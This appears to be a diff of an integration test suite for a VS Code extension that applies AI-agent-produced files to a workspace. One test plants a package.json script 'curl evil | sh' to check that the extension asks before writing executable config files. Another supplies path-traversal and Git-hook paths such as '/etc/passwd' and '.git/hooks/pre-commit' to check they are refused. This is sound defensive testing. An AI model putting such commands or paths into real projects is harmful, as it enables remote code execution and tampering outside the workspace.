@@ -1,28 +1,77 @@
 import assert from 'node:assert/strict';
-import { chmod, mkdtemp, readFile, readdir, rm, stat } from 'node:fs/promises';
+import { chmod, mkdir, mkdtemp, readFile, readdir, rm, stat, symlink, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { dirname, join } from 'node:path';
 import * as vscode from 'vscode';
 import { emulator, until } from './control';
-import { Desk } from './desk';
 import { request, taskWith, untilStatus } from './service';
+import { stub } from './stub';
+
+interface Asked {
+  readonly words: string;
+  readonly detail: string | undefined;
+}
 
 describe('applying what the agent made', () => {
-  let desk: Desk;
+  const root = vscode.workspace.workspaceFolders?.[0]?.uri.fsPath ?? '';
+  const at = (path: string): string => join(root, path);
+  const bytesAt = (path: string): Promise<Buffer> => readFile(at(path));
+  const textAt = async (path: string): Promise<string> => (await bytesAt(path)).toString();
+  const put = async (path: string, content: string | Uint8Array): Promise<void> => {
+    await mkdir(dirname(at(path)), { recursive: true });
+    await writeFile(at(path), content);
+  };
   const apply = (taskId: string, paths?: string | readonly string[]): Thenable<unknown> =>
     vscode.commands.executeCommand('sigmic.applyArtifact', taskId, paths);
+  let before: readonly string[];
+  let asked: Asked[];
+  let told: string[];
+  let errors: string[];
+  let answer: string | undefined;
+  let pressed: string | undefined;
+  const unstub: (() => void)[] = [];
 
   beforeEach(async () => {
     await emulator.reset();
     await vscode.extensions.getExtension('sigmic.sigmic')?.activate();
-    desk = new Desk();
-    await desk.sitDown();
+    before = await readdir(root);
+    asked = [];
+    told = [];
+    errors = [];
+    answer = undefined;
+    pressed = undefined;
+    const warn: unknown = (words: string, options: unknown) => {
+      const detail: unknown =
+        typeof options === 'object' ? Reflect.get(Object(options), 'detail') : undefined;
+      asked.push({ words, detail: typeof detail === 'string' ? detail : undefined });
+      return Promise.resolve(detail === undefined ? undefined : answer);
+    };
+    const inform: unknown = (words: string) => {
+      told.push(words);
+      return Promise.resolve(pressed);
+    };
+    const fail: unknown = (words: string) => {
+      errors.push(words);
+      return Promise.resolve(undefined);
+    };
+    unstub.push(
+      stub(vscode.window, 'showErrorMessage', fail as typeof vscode.window.showErrorMessage),
+      stub(vscode.window, 'showWarningMessage', warn as typeof vscode.window.showWarningMessage),
+      stub(vscode.window, 'showInformationMessage', inform as typeof vscode.window.showInformationMessage),
+    );
   });
-  afterEach(() => desk.leave());
+  afterEach(async () => {
+    for (const undo of unstub.splice(0)) undo();
+    assert.deepEqual(errors, []);
+    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
+    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
+    for (const name of await readdir(root))
+      if (!before.includes(name)) await rm(at(name), { recursive: true });
+  });
 
   it('writes new and changed texts, and one Undo takes all of it back', async () => {
-    await desk.put('first/one.txt', 'one\ntwo\nthree\n');
-    await desk.put('first/crlf.txt', 'a\r\nb\r\n');
+    await put('first/one.txt', 'one\ntwo\nthree\n');
+    await put('first/crlf.txt', 'a\r\nb\r\n');
     const id = await taskWith({
       'first/one.txt': 'one\n2\nthree\n',
       'first/crlf.txt': 'a\nB\n',
@@ -33,21 +82,20 @@ describe('applying what the agent made', () => {
       'first/crlf.txt',
       'first/deep/new.txt',
     ]);
-    assert.equal(await desk.text('first/one.txt'), 'one\n2\nthree\n');
-    assert.equal(await desk.text('first/crlf.txt'), 'a\r\nB\r\n', 'the file keeps its line ends');
-    assert.equal(await desk.text('first/deep/new.txt'), 'new\r\nü\n');
-    assert.deepEqual(desk.told, ['3 files applied to workspace.']);
-    assert.deepEqual(desk.asked, []);
-    const document = await vscode.workspace.openTextDocument(desk.at('first/one.txt'));
+    assert.equal(await textAt('first/one.txt'), 'one\n2\nthree\n');
+    assert.equal(await textAt('first/crlf.txt'), 'a\r\nB\r\n', 'the file keeps its line ends');
+    assert.equal(await textAt('first/deep/new.txt'), 'new\r\nü\n');
+    assert.deepEqual(told, ['3 files applied to workspace.']);
+    assert.deepEqual(asked, []);
+    const document = await vscode.workspace.openTextDocument(at('first/one.txt'));
     await vscode.window.showTextDocument(document);
     await vscode.commands.executeCommand('undo');
     await until(() => document.getText() === 'one\ntwo\nthree\n');
     await until(
       async () =>
-        !(await readdir(desk.at('first'))).includes('deep') ||
-        (await readdir(desk.at('first/deep'))).length === 0,
+        !(await readdir(at('first'))).includes('deep') || (await readdir(at('first/deep'))).length === 0,
     );
-    const other = await vscode.workspace.openTextDocument(desk.at('first/crlf.txt'));
+    const other = await vscode.workspace.openTextDocument(at('first/crlf.txt'));
     assert.equal(other.getText(), 'a\r\nb\r\n');
     await vscode.workspace.saveAll();
   });
@@ -55,10 +103,10 @@ describe('applying what the agent made', () => {
   it('takes all back by the button of the notification, bytes from their backup', async () => {
     const old = Buffer.from([0, 1, 2, 255]);
     const made = Buffer.from([9, 8, 0, 254]);
-    await desk.put('in/data.bin', old);
-    await chmod(desk.at('in/data.bin'), 0o750);
-    await desk.put('in/latin.txt', Buffer.from('caf\xe9\n', 'latin1'));
-    await desk.put('in/a.txt', 'mine\n');
+    await put('in/data.bin', old);
+    await chmod(at('in/data.bin'), 0o750);
+    await put('in/latin.txt', Buffer.from('caf\xe9\n', 'latin1'));
+    await put('in/a.txt', 'mine\n');
     const id = await taskWith({
       'in/data.bin': made,
       'in/fresh.bin': made,
@@ -66,49 +114,71 @@ describe('applying what the agent made', () => {
       'in/a.txt': 'theirs\n',
     });
     assert.equal(((await apply(id, 'in/')) as readonly string[]).length, 4);
-    assert.deepEqual(await desk.bytes('in/data.bin'), made);
-    assert.equal((await stat(desk.at('in/data.bin'))).mode & 0o777, 0o750);
-    assert.deepEqual(await desk.bytes('in/fresh.bin'), made);
-    assert.equal(await desk.text('in/latin.txt'), 'café\n');
-    assert.equal(await desk.text('in/a.txt'), 'theirs\n');
+    assert.deepEqual(await bytesAt('in/data.bin'), made);
+    assert.equal((await stat(at('in/data.bin'))).mode & 0o777, 0o750);
+    assert.deepEqual(await bytesAt('in/fresh.bin'), made);
+    assert.equal(await textAt('in/latin.txt'), 'café\n');
+    assert.equal(await textAt('in/a.txt'), 'theirs\n');
     // What was not valid UTF-8 must survive: no Undo of an editor could bring it back.
-    await desk.put('in/data.bin', old);
-    await desk.put('in/latin.txt', Buffer.from('caf\xe9\n', 'latin1'));
-    await desk.put('in/a.txt', 'mine\n');
-    await rm(desk.at('in/fresh.bin'));
-    await until(
-      async () => (await vscode.workspace.openTextDocument(desk.at('in/a.txt'))).getText() === 'mine\n',
-    );
-    desk.pressed = 'Undo';
+    await put('in/data.bin', old);
+    await put('in/latin.txt', Buffer.from('caf\xe9\n', 'latin1'));
+    await put('in/a.txt', 'mine\n');
+    await rm(at('in/fresh.bin'));
+    await until(async () => (await vscode.workspace.openTextDocument(at('in/a.txt'))).getText() === 'mine\n');
+    pressed = 'Undo';
     assert.equal(((await apply(id, 'in/')) as readonly string[]).length, 4);
-    await until(async () => (await desk.bytes('in/data.bin')).equals(old));
-    await until(async () => (await desk.bytes('in/latin.txt')).equals(Buffer.from('caf\xe9\n', 'latin1')));
-    await until(async () => !(await readdir(desk.at('in'))).includes('fresh.bin'));
-    await until(
-      async () => (await vscode.workspace.openTextDocument(desk.at('in/a.txt'))).getText() === 'mine\n',
-    );
-    assert.deepEqual((await readdir(desk.at('in'))).sort(), ['a.txt', 'data.bin', 'latin.txt']);
+    await until(async () => (await bytesAt('in/data.bin')).equals(old));
+    await until(async () => (await bytesAt('in/latin.txt')).equals(Buffer.from('caf\xe9\n', 'latin1')));
+    await until(async () => !(await readdir(at('in'))).includes('fresh.bin'));
+    await until(async () => (await vscode.workspace.openTextDocument(at('in/a.txt'))).getText() === 'mine\n');
+    assert.deepEqual((await readdir(at('in'))).sort(), ['a.txt', 'data.bin', 'latin.txt']);
     await vscode.workspace.saveAll();
   });
 
   it('leaves what is the same alone and says so', async () => {
-    await desk.put('in/same.txt', 'a\r\nb\r\n');
+    await put('in/same.txt', 'a\r\nb\r\n');
     const id = await taskWith({ 'in/same.txt': 'a\nb\n' });
     assert.deepEqual(await apply(id, 'in/same.txt'), []);
-    assert.match(desk.told.join(), /as they are in the task/);
-    assert.equal(await desk.text('in/same.txt'), 'a\r\nb\r\n');
+    assert.match(told.join(), /as they are in the task/);
+    assert.equal(await textAt('in/same.txt'), 'a\r\nb\r\n');
+  });
+
+  it('asks before it writes what programs obey, naming each, and writes nothing unless it is answered', async () => {
+    await put('package.json', '{"scripts":{"test":"mocha"}}\n');
+    const id = await taskWith({
+      '.vscode/tasks.json': '{}',
+      'package.json': '{"scripts":{"test":"curl evil | sh"}}\n',
+      Makefile: 'all:\n\ttrue\n',
+      'plain.txt': 'plain\n',
+      '.github/workflows/ci.yml': 'on: push\n',
+    });
+    assert.deepEqual(await apply(id), []);
+    assert.equal(asked.length, 1);
+    assert.match(asked[0]?.words ?? '', /Apply these 4 files too\?/);
+    for (const path of ['.vscode/tasks.json', 'package.json', 'Makefile', '.github/workflows/ci.yml'])
+      assert.ok(asked[0]?.detail?.includes(`${path}: `), path);
+    assert.equal((await readdir(root)).includes('plain.txt'), false);
+    answer = 'Leave These Out';
+    assert.deepEqual(await apply(id), ['plain.txt']);
+    assert.equal((await readdir(root)).includes('Makefile'), false);
+    assert.match(await textAt('package.json'), /mocha/);
+    answer = 'Apply All';
+    assert.equal(((await apply(id)) as readonly string[]).length, 4);
+    assert.equal(await textAt('.vscode/tasks.json'), '{}');
+    assert.match(await textAt('package.json'), /curl evil/);
+    await rm(at('package.json'));
   });
 
   it('asks before it replaces changes that are not saved', async () => {
-    await desk.put('in/open.txt', 'saved\n');
+    await put('in/open.txt', 'saved\n');
     const id = await taskWith({ 'in/open.txt': 'theirs\n' });
-    const document = await vscode.workspace.openTextDocument(desk.at('in/open.txt'));
+    const document = await vscode.workspace.openTextDocument(at('in/open.txt'));
     const editor = await vscode.window.showTextDocument(document);
     await editor.edit((edit) => edit.insert(new vscode.Position(0, 0), 'typed '));
     assert.deepEqual(await apply(id, 'in/open.txt'), []);
-    assert.match(desk.asked[0]?.detail ?? '', /in\/open\.txt: has unsaved changes/);
+    assert.match(asked[0]?.detail ?? '', /in\/open\.txt: has unsaved changes/);
     assert.equal(document.getText(), 'typed saved\n');
-    desk.answer = 'Apply All';
+    answer = 'Apply All';
     assert.deepEqual(await apply(id, 'in/open.txt'), ['in/open.txt']);
     assert.equal(document.getText(), 'theirs\n');
     await vscode.window.showTextDocument(document);
@@ -117,21 +187,80 @@ describe('applying what the agent made', () => {
     await vscode.workspace.saveAll();
   });
 
+  it('never writes outside of the workspace or into Git, whatever the server lists', async () => {
+    const outside = await mkdtemp(join(tmpdir(), 'sigmic-outside-'));
+    try {
+      await mkdir(at('real/.git/hooks'), { recursive: true });
+      await symlink(outside, at('out'));
+      await symlink(join(outside, 'missing.txt'), at('dangling.txt'));
+      await symlink(at('real/.git/hooks'), at('hooks'));
+      await put('README.md', 'mine\n');
+      await put('file', 'a file\n');
+      const id = await taskWith({ 'ok.txt': 'ok\n' });
+      const paths = [
+        '../escape.txt',
+        '/etc/passwd',
+        '//server/share',
+        'C:/windows/x',
+        'a/../../b.txt',
+        '..\\x.txt',
+        'nul.txt',
+        'a:stream',
+        '.git/hooks/pre-commit',
+        'sub/.GIT/config',
+        'out/x.txt',
+        'dangling.txt',
+        'hooks/pre-push',
+        'readme.md',
+        'file/below.txt',
+        'real',
+        'ok.txt',
+      ];
+      const files = paths.map((path) => ({
+        name: path,
+        path,
+        size: 3,
+        modifiedAt: new Date().toISOString(),
+      }));
+      await emulator.fault({
+        match: { method: 'GET', path: `${id}/artifacts$` },
+        respond: { status: 200, body: { success: true, data: { files } } },
+      });
+      await emulator.fault({
+        match: { method: 'GET', path: `${id}/artifacts/download` },
+        respond: { status: 200, body: 'ok\n' },
+      });
+      assert.deepEqual(await apply(id), ['ok.txt']);
+      assert.equal(await textAt('ok.txt'), 'ok\n');
+      assert.deepEqual(await readdir(outside), []);
+      assert.deepEqual(await readdir(at('real/.git/hooks')), []);
+      assert.equal(await textAt('README.md'), 'mine\n');
+      const made = (await readdir(root)).filter((name) => !before.includes(name)).sort();
+      assert.deepEqual(made, ['README.md', 'dangling.txt', 'file', 'hooks', 'ok.txt', 'out', 'real']);
+      assert.match(
+        asked.map(({ words }) => words).join(),
+        /^\d+ files not applied: "etc\/passwd" has an absolute path;/,
+      );
+    } finally {
+      await rm(outside, { recursive: true });
+    }
+  });
+
   it('leaves the old file when a download is cut, and says so', async () => {
-    await desk.put('in/large.bin', Buffer.from([0, 1]));
+    await put('in/large.bin', Buffer.from([0, 1]));
     const id = await taskWith({ 'in/large.bin': Buffer.alloc(300_000, 0) });
     for (const cut of [{ dropAfterBytes: 100_000 }, { endAfterBytes: 100_000 }]) {
       await emulator.fault({ match: { method: 'GET', path: '/artifacts/download', times: 1 }, ...cut });
       assert.deepEqual(await apply(id, 'in/large.bin'), []);
-      assert.deepEqual(await desk.bytes('in/large.bin'), Buffer.from([0, 1]));
-      assert.match(desk.errors.pop() ?? '', /Could not apply the files/);
+      assert.deepEqual(await bytesAt('in/large.bin'), Buffer.from([0, 1]));
+      assert.match(errors.pop() ?? '', /Could not apply the files/);
     }
-    assert.deepEqual(await readdir(desk.at('in')), ['large.bin']);
+    assert.deepEqual(await readdir(at('in')), ['large.bin']);
   });
 
   it('puts what was sent back where a file of its name is', async () => {
-    await desk.put('in/deep/sent.txt', 'mine\n');
-    await desk.put('sent-at-the-top.txt', 'mine\n');
+    await put('in/deep/sent.txt', 'mine\n');
+    await put('sent-at-the-top.txt', 'mine\n');
     const form = new FormData();
     form.append('message', 'Hello');
     form.append('files', new Blob(['theirs\n']), 'sent-at-the-top.txt');
@@ -139,12 +268,12 @@ describe('applying what the agent made', () => {
     const id = String(Reflect.get(Object(await request('POST', '/tasks', form)), 'id'));
     await untilStatus(id, 'completed');
     assert.deepEqual(await apply(id), ['other.txt', 'sent-at-the-top.txt']);
-    assert.equal(await desk.text('sent-at-the-top.txt'), 'theirs\n');
+    assert.equal(await textAt('sent-at-the-top.txt'), 'theirs\n');
   });
 
   it('lets the person choose among all files', async () => {
-    await desk.put('in/same.txt', 'same\n');
-    await desk.put('in/changed.txt', 'mine\n');
+    await put('in/same.txt', 'same\n');
+    await put('in/changed.txt', 'mine\n');
     const id = await taskWith({
       'in/same.txt': 'same\n',
       'in/changed.txt': 'theirs\n',
@@ -158,7 +287,7 @@ describe('applying what the agent made', () => {
       );
       return Promise.resolve(items.filter(({ picked }) => picked));
     };
-    desk.replace(vscode.window, 'showQuickPick', pick as typeof vscode.window.showQuickPick);
+    unstub.push(stub(vscode.window, 'showQuickPick', pick as typeof vscode.window.showQuickPick));
     const written = await vscode.commands.executeCommand('sigmic.applyArtifacts', id);
     assert.deepEqual(shown, [
       ['.envrc', 'new', false],
@@ -167,26 +296,6 @@ describe('applying what the agent made', () => {
       ['in/same.txt', 'the same as here', false],
     ]);
     assert.deepEqual(written, ['in/changed.txt', 'in/new.txt']);
-    assert.deepEqual(desk.asked, []);
-  });
-
-  it('goes into the folder that the person picks when there are several', async () => {
-    const other = await mkdtemp(join(tmpdir(), 'sigmic-second-'));
-    const id = await taskWith({ 'plain.txt': 'plain\n' });
-    const [first] = vscode.workspace.workspaceFolders ?? [];
-    const second = { uri: vscode.Uri.file(other), name: 'second', index: 1 };
-    desk.pretend('workspaceFolders', [first, second]);
-    const picks: unknown[] = [undefined, second];
-    const pick: unknown = () => Promise.resolve(picks.shift());
-    desk.replace(
-      vscode.window,
-      'showWorkspaceFolderPick',
-      pick as typeof vscode.window.showWorkspaceFolderPick,
-    );
-    assert.deepEqual(await apply(id), []);
-    assert.deepEqual(await apply(id), ['plain.txt']);
-    assert.equal(await readFile(join(other, 'plain.txt'), 'utf8'), 'plain\n');
-    assert.equal((await readdir(desk.root)).includes('plain.txt'), false);
-    await rm(other, { recursive: true });
+    assert.deepEqual(asked, []);
   });
 });
